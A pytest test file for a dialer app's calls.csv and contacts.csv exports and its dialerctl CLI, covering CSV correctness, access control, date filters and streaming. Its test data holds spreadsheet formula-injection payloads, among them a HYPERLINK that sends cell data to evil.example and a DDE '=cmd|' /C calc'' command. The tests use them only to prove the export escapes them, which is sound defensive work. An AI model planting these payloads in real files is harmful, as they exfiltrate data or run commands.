"""GET /api/v1/calls.csv and /api/v1/contacts.csv, and dialerctl's
export-calls / export-contacts: exact CSV (RFC 4180, parsed back with
Python's csv module and compared with the database), the formula escape,
who sees which calls, date filters, errors, HEAD, a 20,000-call export
that streams without the program's memory growing, and the CLI giving
the same bytes as HTTP.

Calls are written straight into the server's database, each test on days
of its own (far from today), so the tests do not see each other's rows."""
import csv
import http.client
import io
import json
import os
import secrets
import shutil
import sqlite3
import stat
import subprocess
import tempfile

import pytest
import requests

import csvgen
from conftest import DIALERCTL, assert_common_headers, assert_error, clean_env, give_back

CALLS_CSV = "/api/v1/calls.csv"
CONTACTS_CSV = "/api/v1/contacts.csv"

CALL_COLUMNS = ["call_id", "day", "created_at", "operator_id", "operator", "provider", "list_id",
                "list_name", "contact_id", "contact_name", "company", "to_phone", "from_phone",
                "status", "failure_reason", "dialed_at", "answered_at", "ended_at", "connected",
                "duration_s", "outcome", "notes"]
CONTACT_COLUMNS = ["id", "list_id", "name", "company", "title", "phone", "phone_display", "region",
                   "phone_type", "status", "last_outcome", "last_called_at", "created_at"]

# What spreadsheets would run, and the text that must come back unharmed.
NASTY = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "plus": "+1 Plus Corp",
    "at": "@SUM(A1:A9)",
    "minus": "-2",
    "tab": "\tTabbed",
    "quotes": 'He said "yes", then\nhung up; called back\r\nlater',
    "utf8": "Zoë Ångström — 東京 😀",
}


def esc(v):
    """A cell as the export writes it: NULL empty, numbers as they are,
    text with a leading apostrophe when a spreadsheet would run it."""
    if v is None:
        return ""
    if isinstance(v, int):
        return str(v)
    return "'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") else v


def parse(body):
    """Records of an export: every line ends CRLF, then Python's reader."""
    text = body.decode("utf-8")
    assert text.endswith("\r\n"), text[-40:]
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def db_rows(server, sql, *args):
    with server.db() as c:
        return c.execute(sql, args).fetchall()


def add_calls(server, calls):
    """Insert calls (dicts of column -> value) behind the server's back;
    returns their ids in order."""
    con = sqlite3.connect(server.db_path, timeout=30)
    ids = []
    try:
        for c in calls:
            row = {"provider": "sim", "to_phone": "+12025550101", "status": "completed",
                   "conference_name": "cd-exp-" + secrets.token_hex(8)}
            row.update(c)
            cols = sorted(row)
            cur = con.execute("INSERT INTO calls (%s) VALUES (%s)"
                              % (", ".join(cols), ", ".join("?" * len(cols))),
                              [row[k] for k in cols])
            ids.append(cur.lastrowid)
        con.commit()
    finally:
        con.close()
    give_back(server.var)
    return ids


def import_list(server, rows, name=None):
    body = csvgen.rows_to_csv(["name", "company", "phone", "title"], rows)
    r = requests.post(server.url("/api/v1/contacts/import"), data=body,
                      params={"list_name": name or "Exports " + secrets.token_hex(4)},
                      headers={"X-API-Key": server.api_key, "Content-Type": "text/csv"},
                      timeout=60)
    assert r.status_code == 200, r.text
    assert r.json()["error_count"] == 0, r.text
    return r.json()["list_id"]


def expected_calls(server, lo, hi, operator_id=None):
    """v_calls rows created on days lo..hi, as the export must write them."""
    sql = ("SELECT %s FROM v_calls WHERE day BETWEEN ? AND ?%s ORDER BY call_id"
           % (", ".join(CALL_COLUMNS), " AND operator_id = ?" if operator_id else ""))
    args = (lo, hi, operator_id) if operator_id else (lo, hi)
    return [[esc(v) for v in row] for row in db_rows(server, sql, *args)]


def ctl(server, *args):
    env = clean_env()
    env["DIALER_DB"] = server.db_path
    try:
        return subprocess.run([DIALERCTL, *args], capture_output=True, env=env, timeout=120)
    finally:
        give_back(server.var)


@pytest.fixture(scope="module")
def nasty_list(server):
    """A list whose names, companies and titles are formulas and worse."""
    rows = [[NASTY["hyperlink"], NASTY["at"], "+1 202 555 0131", NASTY["minus"]],
            [NASTY["plus"], 'Quote "Co", Inc.', "(202) 555-0132", ""],
            [NASTY["utf8"], "-Minus Ltd", "202.555.0133", "=1+1"]]
    lid = import_list(server, rows)
    ids = [r[0] for r in db_rows(server, "SELECT id FROM contacts WHERE list_id = ? ORDER BY id",
                                 lid)]
    return {"list_id": lid, "contact_ids": ids, "rows": rows}


# --- calls.csv ------------------------------------------------------------

def test_calls_csv_exact(server, nasty_list, operator):
    _s, op, _pw = operator
    cids = nasty_list["contact_ids"]
    ids = add_calls(server, [
        {"contact_id": cids[0], "operator_id": op["id"], "created_at": "2031-03-01T09:00:00Z",
         "dialed_at": "2031-03-01T09:00:02Z", "answered_at": "2031-03-01T09:00:09Z",
         "ended_at": "2031-03-01T09:03:09Z", "duration_s": 180, "outcome": "follow_up",
         "notes": NASTY["quotes"]},
        {"contact_id": cids[1], "operator_id": op["id"], "created_at": "2031-03-02T10:00:00Z",
         "status": "no-answer", "outcome": "no_answer", "notes": NASTY["hyperlink"],
         "from_phone": "+12025550199"},
        {"contact_id": cids[2], "operator_id": op["id"], "created_at": "2031-03-03T23:59:59Z",
         "status": "failed", "failure_reason": "operator_not_connected", "notes": NASTY["tab"]},
        # The API key's call to a bare number: no operator, no contact.
        {"created_at": "2031-03-02T12:00:00Z", "to_phone": "+12025550134",
         "notes": NASTY["utf8"] + " " + NASTY["at"]},
    ])
    r = server.api("GET", CALLS_CSV, params={"from": "2031-03-01", "to": "2031-03-03"})
    assert r.status_code == 200, r.text
    assert_common_headers(r)
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert r.headers["Content-Disposition"] == \
        'attachment; filename="calls-2031-03-01-2031-03-03.csv"'
    assert r.headers["Cache-Control"] == "no-store"
    recs = parse(r.content)
    assert recs[0] == CALL_COLUMNS
    assert recs[1:] == expected_calls(server, "2031-03-01", "2031-03-03")
    assert [int(x[0]) for x in recs[1:]] == sorted(ids)
    by_id = {int(x[0]): dict(zip(CALL_COLUMNS, x)) for x in recs[1:]}
    first, second, third, api = (by_id[i] for i in ids)
    # Formulas are neutralised, everything else comes back byte for byte.
    assert first["contact_name"] == "'" + NASTY["hyperlink"]
    assert first["company"] == "'@SUM(A1:A9)"
    assert first["notes"] == NASTY["quotes"]
    assert first["to_phone"] == "'+12025550101"
    assert (first["connected"], first["duration_s"], first["outcome"]) == ("1", "180", "follow_up")
    assert first["operator"] == op["username"] and first["list_name"].startswith("Exports ")
    assert second["contact_name"] == "'+1 Plus Corp" and second["company"] == 'Quote "Co", Inc.'
    assert second["notes"] == "'" + NASTY["hyperlink"]
    assert (second["connected"], second["duration_s"], second["answered_at"]) == ("0", "", "")
    assert third["contact_name"] == NASTY["utf8"] and third["company"] == "'-Minus Ltd"
    assert third["notes"] == "'\tTabbed" and third["day"] == "2031-03-03"
    assert third["failure_reason"] == "operator_not_connected"
    assert (api["operator"], api["operator_id"], api["contact_id"], api["list_name"]) == \
        ("(api key)", "", "", "")
    assert api["notes"] == NASTY["utf8"] + " @SUM(A1:A9)"
    # The bytes themselves: quotes doubled, line breaks kept inside quotes,
    # UTF-8 as it is, CRLF between records.
    assert b'"He said ""yes"", then\nhung up; called back\r\nlater"' in r.content
    assert b'"\'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")"' in r.content
    assert ("%d," % ids[3]).encode() in r.content
    assert NASTY["utf8"].encode("utf-8") in r.content
    assert r.content.startswith(",".join(CALL_COLUMNS).encode() + b"\r\n")


def test_empty_export_is_the_header_row(server, admin):
    r = admin.get(server.url(CALLS_CSV), params={"from": "1999-01-01", "to": "1999-01-31"})
    assert r.status_code == 200, r.text
    assert r.content == (",".join(CALL_COLUMNS) + "\r\n").encode()
    assert r.headers["Content-Disposition"] == \
        'attachment; filename="calls-1999-01-01-1999-01-31.csv"'


def test_date_filters_are_inclusive_utc_days(server):
    ids = add_calls(server, [{"created_at": t} for t in (
        "2032-05-31T23:59:59Z", "2032-06-01T00:00:00Z", "2032-06-15T12:00:00Z",
        "2032-06-30T23:59:59Z", "2032-07-01T00:00:00Z")])

    def got(params):
        r = server.api("GET", CALLS_CSV, params=params)
        assert r.status_code == 200, r.text
        return r, [int(x[0]) for x in parse(r.content)[1:]]

    _r, in_june = got({"from": "2032-06-01", "to": "2032-06-30"})
    assert in_june == ids[1:4]
    _r, one_day = got({"from": "2032-06-15", "to": "2032-06-15"})
    assert one_day == [ids[2]]
    # One side open: from the first call, or up to the last.
    r, since = got({"from": "2032-06-30"})
    assert ids[3] in since and ids[4] in since and ids[2] not in since
    assert r.headers["Content-Disposition"] == 'attachment; filename="calls-since-2032-06-30.csv"'
    r, until = got({"to": "2032-05-31"})
    assert ids[0] in until and ids[1] not in until
    assert r.headers["Content-Disposition"] == 'attachment; filename="calls-until-2032-05-31.csv"'
    # No days (or empty ones): the whole log.
    r, everything = got({"from": "", "to": ""})
    assert set(ids) <= set(everything) and everything == sorted(everything)
    assert r.headers["Content-Disposition"] == 'attachment; filename="calls-all.csv"'
    # Leap day.
    _r, leap = got({"from": "2032-02-29", "to": "2032-02-29"})
    assert leap == []
    # The last day there is (no next day to bound it) and the first.
    _r, to_the_end = got({"from": "2032-06-30", "to": "9999-12-31"})
    assert to_the_end == since
    _r, from_the_start = got({"from": "1970-01-01", "to": "2032-05-31"})
    assert from_the_start == until


@pytest.mark.parametrize("params,field,reason", [
    ({"from": "2031-13-01"}, "from", "format"),
    ({"from": "2031-02-29"}, "from", "format"),
    ({"to": "2031-04-31"}, "to", "format"),
    ({"from": "2031-3-1"}, "from", "length"),
    ({"to": "yesterday!"}, "to", "format"),
    ({"from": "2031-03-01T00:00:00Z"}, "from", "length"),
    ({"from": "0000-01-01"}, "from", "format"),
    ({"from": "2031-03-02", "to": "2031-03-01"}, "to", "range"),
])
def test_bad_dates_are_422(server, params, field, reason):
    err = assert_error(server.api("GET", CALLS_CSV, params=params), 422, "validation_failed")
    assert err["details"] == {"field": field, "reason": reason}


def test_bad_query_encoding_is_400(server):
    # requests would re-quote "%zz"; http.client sends it as written.
    for path in (CALLS_CSV + "?from=%zz", CONTACTS_CSV + "?list_id=1%4"):
        c = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
        c.request("GET", path, headers={"X-API-Key": server.api_key})
        resp = c.getresponse()
        status, data = resp.status, resp.read()
        c.close()
        assert status == 400, (path, status, data)
        assert json.loads(data)["error"]["code"] == "invalid_parameter"


def test_operator_sees_only_own_calls(server, admin):
    (s1, u1, _p1), (s2, u2, _p2) = [
        (server.login(u["username"], p), u, p) for u, p in
        (server.create_user(), server.create_user())]
    ids = add_calls(server, [
        {"operator_id": u1["id"], "created_at": "2033-02-02T09:00:00Z", "notes": "op1"},
        {"operator_id": u2["id"], "created_at": "2033-02-02T10:00:00Z", "notes": "op2"},
        {"created_at": "2033-02-02T11:00:00Z", "notes": "api"},
        {"operator_id": u1["id"], "created_at": "2033-02-03T09:00:00Z", "notes": "op1 again"},
    ])
    days = {"from": "2033-02-02", "to": "2033-02-03"}

    def ids_of(r):
        assert r.status_code == 200, r.text
        return [int(x[0]) for x in parse(r.content)[1:]]

    assert ids_of(s1.get(server.url(CALLS_CSV), params=days)) == [ids[0], ids[3]]
    assert ids_of(s2.get(server.url(CALLS_CSV), params=days)) == [ids[1]]
    r = s1.get(server.url(CALLS_CSV), params=days)
    assert parse(r.content)[1:] == expected_calls(server, "2033-02-02", "2033-02-03", u1["id"])
    assert ids_of(admin.get(server.url(CALLS_CSV), params=days)) == ids
    assert ids_of(server.api("GET", CALLS_CSV, params=days)) == ids


def test_a_call_made_through_the_api(server, operator):
    """A simulated call, ended and logged by its operator, is in today's export."""
    s, op, _pw = operator
    r = s.post(server.url("/api/v1/calls"), json={"to_phone": "+12025550136"}, timeout=60)
    assert r.status_code == 201, r.text
    call = r.json()["call"]
    assert s.post(server.url("/api/v1/calls/%d/end" % call["id"]), timeout=60).status_code == 200
    r = s.post(server.url("/api/v1/calls/%d/log" % call["id"]), timeout=60,
               json={"outcome": "follow_up", "notes": "=cmd|' /C calc'!A0, \"urgent\""})
    assert r.status_code == 200, r.text
    today = call["created_at"][:10]
    r = s.get(server.url(CALLS_CSV), params={"from": today, "to": today})
    assert r.status_code == 200, r.text
    recs = parse(r.content)
    assert recs[1:] == expected_calls(server, today, today, op["id"])
    assert len(recs) == 2
    row = dict(zip(CALL_COLUMNS, recs[1]))
    assert (int(row["call_id"]), row["operator"], row["provider"], row["status"], row["outcome"]) \
        == (call["id"], op["username"], "sim", "canceled", "follow_up")
    assert row["notes"] == "'=cmd|' /C calc'!A0, \"urgent\""
    assert row["to_phone"] == "'+12025550136"


def test_credentials_are_required(server):
    for path in (CALLS_CSV, CONTACTS_CSV + "?list_id=1"):
        assert_error(server.get(path), 401, "unauthenticated")
        assert_error(server.get(path, headers={"X-API-Key": "wrong"}), 401, "unauthenticated")
        r = requests.get(server.url(path), cookies={"session": "not-a-session"}, timeout=30)
        assert_error(r, 401, "unauthenticated")


def test_other_methods_are_405(server, admin):
    for path in (CALLS_CSV, CONTACTS_CSV):
        for method in ("POST", "PUT", "DELETE"):
            r = server.api(method, path)
            assert_error(r, 405, "method_not_allowed")
            assert r.headers["Allow"] == "GET, HEAD"


def test_head_is_get_without_the_body(server, nasty_list):
    days = {"from": "2031-03-01", "to": "2031-03-03"}
    for path, params in ((CALLS_CSV, days), (CONTACTS_CSV, {"list_id": nasty_list["list_id"]})):
        g = server.api("GET", path, params=params)
        h = server.api("HEAD", path, params=params)
        assert g.status_code == h.status_code == 200
        assert h.content == b"" and g.content
        for k in ("Content-Type", "Content-Disposition", "Cache-Control"):
            assert h.headers[k] == g.headers[k]
    assert server.api("HEAD", CONTACTS_CSV, params={"list_id": 999999}).status_code == 404
    assert server.api("HEAD", CALLS_CSV, params={"from": "x"}).status_code == 422


# --- contacts.csv ---------------------------------------------------------

def test_contacts_csv_exact(server, nasty_list, operator):
    lid = nasty_list["list_id"]
    s, _op, _pw = operator
    # Whoever may page through the list may export it: operators too.
    for who in (server.api_headers(), None):
        if who is None:
            r = s.get(server.url(CONTACTS_CSV), params={"list_id": lid})
        else:
            r = server.api("GET", CONTACTS_CSV, params={"list_id": lid})
        assert r.status_code == 200, r.text
        assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert r.headers["Content-Disposition"] == \
            'attachment; filename="contacts-list-%d.csv"' % lid
        assert r.headers["Cache-Control"] == "no-store"
        recs = parse(r.content)
        assert recs[0] == CONTACT_COLUMNS
        want = db_rows(server, "SELECT id, list_id, name, company, title, phone_e164, "
                       "phone_national, region, phone_type, status, last_outcome, "
                       "last_called_at, created_at FROM contacts WHERE list_id = ? ORDER BY id",
                       lid)
        assert recs[1:] == [[esc(v) for v in row] for row in want]
    # The same contacts GET /api/v1/contacts shows, cell for cell.
    items = server.api("GET", "/api/v1/contacts", params={"list_id": lid}).json()["items"]
    rows = [dict(zip(CONTACT_COLUMNS, x)) for x in recs[1:]]
    for item, row in zip(sorted(items, key=lambda c: c["id"]), rows):
        for k in ("name", "company", "title", "phone", "phone_display", "region", "status"):
            assert row[k] == esc(item[k]), (k, row[k], item[k])
    assert [x["name"] for x in rows] == ["'" + NASTY["hyperlink"], "'+1 Plus Corp", NASTY["utf8"]]
    assert [x["title"] for x in rows] == ["'-2", "", "'=1+1"]
    assert rows[0]["phone"] == "'+12025550131"


def test_contacts_csv_reimports(server, nasty_list):
    """The export is a file our own importer takes back."""
    lid = nasty_list["list_id"]
    body = server.api("GET", CONTACTS_CSV, params={"list_id": lid}).content
    r = requests.post(server.url("/api/v1/contacts/import"), data=body,
                      params={"list_name": "Reimported " + secrets.token_hex(4)},
                      headers={"X-API-Key": server.api_key, "Content-Type": "text/csv"},
                      timeout=60)
    assert r.status_code == 200, r.text
    assert (r.json()["imported"], r.json()["error_count"]) == (3, 0)
    again = db_rows(server, "SELECT phone_e164 FROM contacts WHERE list_id = ? ORDER BY id",
                    r.json()["list_id"])
    assert [p for (p,) in again] == ["+12025550131", "+12025550132", "+12025550133"]


def test_contacts_csv_errors(server):
    assert_error(server.api("GET", CONTACTS_CSV, params={"list_id": 999999}), 404,
                 "list_not_found")
    gone = import_list(server, [["Gone Person", "Gone Co", "+1 202 555 0135", ""]])
    assert server.api("DELETE", "/api/v1/lists/%d" % gone).status_code in (200, 204)
    assert_error(server.api("GET", CONTACTS_CSV, params={"list_id": gone}), 404, "list_not_found")
    for bad, reason in (("", "required"), ("abc", "type"), ("0", "range"), ("-3", "range"),
                        ("1.5", "type")):
        err = assert_error(server.api("GET", CONTACTS_CSV, params={"list_id": bad}), 422,
                           "validation_failed")
        assert err["details"] == {"field": "list_id", "reason": reason}
    assert_error(server.api("GET", CONTACTS_CSV), 422, "validation_failed")


def test_empty_list_is_the_header_row(server):
    con = sqlite3.connect(server.db_path, timeout=30)
    try:
        lid = con.execute("INSERT INTO contact_lists (name) VALUES ('Empty')").lastrowid
        con.commit()
    finally:
        con.close()
    give_back(server.var)
    r = server.api("GET", CONTACTS_CSV, params={"list_id": lid})
    assert r.status_code == 200, r.text
    assert r.content == (",".join(CONTACT_COLUMNS) + "\r\n").encode()


def test_unknown_paths_are_404(server):
    for path in ("/api/v1/calls.csvx", "/api/v1/users.csv", "/api/v1/calls.csv/1"):
        assert_error(server.api("GET", path), 404)


# --- dialerctl ------------------------------------------------------------

def test_dialerctl_gives_the_same_bytes(server, nasty_list, operator):
    _s, op, pw = operator
    add_calls(server, [
        {"operator_id": op["id"], "contact_id": nasty_list["contact_ids"][0],
         "created_at": "2035-08-08T08:08:08Z", "notes": NASTY["quotes"]},
        {"created_at": "2035-08-09T08:08:08Z", "notes": NASTY["hyperlink"]},
    ])
    days = {"from": "2035-08-08", "to": "2035-08-09"}
    http = server.api("GET", CALLS_CSV, params=days).content
    p = ctl(server, "export-calls", "--from", days["from"], "--to", days["to"])
    assert p.returncode == 0, p.stderr
    assert p.stdout == http and len(parse(http)) == 3
    # --operator: what that operator gets over HTTP.
    mine = server.login(op["username"], pw).get(server.url(CALLS_CSV), params=days).content
    p = ctl(server, "export-calls", "--from", days["from"], "--to", days["to"],
            "--operator", op["username"])
    assert p.returncode == 0, p.stderr
    assert p.stdout == mine and len(parse(mine)) == 2
    # The whole log, both ways.
    p = ctl(server, "export-calls")
    assert p.returncode == 0, p.stderr
    assert p.stdout == server.api("GET", CALLS_CSV).content
    lid = nasty_list["list_id"]
    http = server.api("GET", CONTACTS_CSV, params={"list_id": lid}).content
    p = ctl(server, "export-contacts", "--list-id", str(lid))
    assert p.returncode == 0, p.stderr
    assert p.stdout == http


def test_dialerctl_output_file_and_errors(server, nasty_list):
    d = tempfile.mkdtemp(prefix="exports-e2e-")
    try:
        out = os.path.join(d, "contacts.csv")
        lid = nasty_list["list_id"]
        p = ctl(server, "export-contacts", "--list-id", str(lid), "--output", out)
        assert p.returncode == 0 and p.stdout == b"", p.stderr
        with open(out, "rb") as f:
            assert f.read() == server.api("GET", CONTACTS_CSV, params={"list_id": lid}).content
        # Names and numbers: readable by the owner only.
        assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
        out2 = os.path.join(d, "calls.csv")
        p = ctl(server, "export-calls", "--from", "1999-01-01", "--to", "1999-01-01",
                "--output", out2)
        assert p.returncode == 0, p.stderr
        with open(out2, "rb") as f:
            assert f.read() == (",".join(CALL_COLUMNS) + "\r\n").encode()
        # Refused before any byte: no file is left behind.
        missing = os.path.join(d, "none.csv")
        p = ctl(server, "export-contacts", "--list-id", "999999", "--output", missing)
        assert p.returncode == 1 and b"no such list" in p.stderr
        assert not os.path.exists(missing)
        p = ctl(server, "export-calls", "--operator", "nobody-" + secrets.token_hex(4))
        assert p.returncode == 1 and b"no such operator" in p.stderr and p.stdout == b""
        p = ctl(server, "export-calls", "--output", os.path.join(d, "no", "such", "dir.csv"))
        assert p.returncode == 1 and b"No such file or directory" in p.stderr
        for args in (["export-calls", "--from", "2031-02-30"],
                     ["export-calls", "--from", "2031-03-02", "--to", "2031-03-01"],
                     ["export-contacts", "--list-id", "x"],
                     ["export-contacts", "--list-id", "0"]):
            p = ctl(server, *args)
            assert p.returncode == 2 and p.stdout == b"", (args, p.stderr)
        # Usage errors print the command's help.
        for args in (["export-contacts"], ["export-calls", "--bogus"]):
            p = ctl(server, *args)
            assert p.returncode == 2 and b"usage: dialerctl " + args[0].encode() in p.stderr
        for cmd in ("export-calls", "export-contacts"):
            p = ctl(server, cmd, "--help")
            assert p.returncode == 0 and b"usage: dialerctl " + cmd.encode() in p.stdout
            p = ctl(server, "--help")
            assert cmd.encode() in p.stdout
    finally:
        for name in os.listdir(d):
            os.unlink(os.path.join(d, name))
        os.rmdir(d)


# --- a big export streams -------------------------------------------------

def exports_processes(server):
    """{pid: VmHWM kB} of this server's `exports` FastCGI processes."""
    found = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.path.basename(os.readlink("/proc/%s/exe" % pid)) != "exports":
                continue
            with open("/proc/%s/environ" % pid, "rb") as f:
                env = f.read().split(b"\0")
            if ("DIALER_DB=" + server.db_path).encode() not in env:
                continue
            with open("/proc/%s/status" % pid) as f:
                for line in f:
                    if line.startswith("VmHWM:"):
                        found[int(pid)] = int(line.split()[1])
        except OSError:
            continue
    return found


def test_big_export_streams_in_constant_memory(server_factory):
    srv = server_factory()
    n = 20000
    note = "Spoke with the office manager; wants a demo, " * 20  # ~1 KB a call
    con = sqlite3.connect(srv.db_path, timeout=30)
    try:
        con.executemany(
            "INSERT INTO calls (provider, conference_name, to_phone, status, created_at, notes, "
            "duration_s) VALUES ('sim', ?, ?, 'completed', ?, ?, ?)",
            (("cd-big-%d" % i, "+1202555%04d" % (100 + i % 100),
              "2036-01-%02dT%02d:%02d:%02dZ" % (1 + i // 1000, i % 24, i % 60, i % 60),
              "%s#%d" % (note, i), i % 300) for i in range(n)))
        con.commit()
    finally:
        con.close()
    give_back(srv.var)
    small = srv.api("GET", CALLS_CSV, params={"from": "1999-01-01", "to": "1999-01-01"})
    assert small.status_code == 200
    before = exports_processes(srv)
    assert before, "no exports process found for this server"
    r = srv.api("GET", CALLS_CSV, params={"from": "2036-01-01", "to": "2036-01-31"}, stream=True)
    assert r.status_code == 200
    # Streamed: no length known in advance, so chunked.
    assert "Content-Length" not in r.headers, r.headers
    assert r.headers.get("Transfer-Encoding") == "chunked", r.headers
    size = marks = lines = 0
    tail = b""
    for chunk in r.iter_content(65536):
        size += len(chunk)
        marks += chunk.count(b"#")
        lines += chunk.count(b"\n")  # a CRLF may straddle two chunks
        tail = (tail + chunk)[-200:]
    assert (marks, lines) == (n, n + 1) and size > n * 1000
    # Notes (quoted: they hold commas) are the last column.
    assert tail.endswith(b'#%d"\r\n' % (n - 1)), tail
    after = exports_processes(srv)
    grew = max(after.get(pid, 0) - hwm for pid, hwm in before.items())
    new = [hwm for pid, hwm in after.items() if pid not in before]
    # The body is over 20 MB; the program's peak grows by SQLite's page
    # cache (2 MB) and little more.
    assert grew < 6 * 1024, (before, after, size)
    assert all(hwm < max(before.values()) + 6 * 1024 for hwm in new), (before, after)


def test_dialerctl_output_never_harms_the_database_or_an_existing_file(server, nasty_list):
    with open(server.db_path, "rb") as f:
        head = f.read(100)
    for target in (server.db_path, server.db_path + "-wal"):
        if not os.path.exists(target):
            continue
        p = ctl(server, "export-calls", "--output", target)
        assert p.returncode == 1 and b"live database" in p.stderr, (target, p.stderr)
    with open(server.db_path, "rb") as f:
        assert f.read(100) == head
    assert server.api("GET", CALLS_CSV).status_code == 200
    d = tempfile.mkdtemp(prefix="exports-e2e-")
    try:
        # An old export others could read: replaced whole, by a private file.
        out = os.path.join(d, "calls.csv")
        with open(out, "wb") as f:
            f.write(b"last week's export")
        os.chmod(out, 0o644)
        p = ctl(server, "export-calls", "--output", out)
        assert p.returncode == 0, p.stderr
        with open(out, "rb") as f:
            assert f.read() == server.api("GET", CALLS_CSV).content
        assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
        assert os.listdir(d) == ["calls.csv"]
        # A refused export leaves the old file as it was.
        p = ctl(server, "export-contacts", "--list-id", "999999", "--output", out)
        assert p.returncode == 1
        with open(out, "rb") as f:
            assert f.read() == server.api("GET", CALLS_CSV).content
        assert os.listdir(d) == ["calls.csv"]
    finally:
        shutil.rmtree(d, ignore_errors=True)
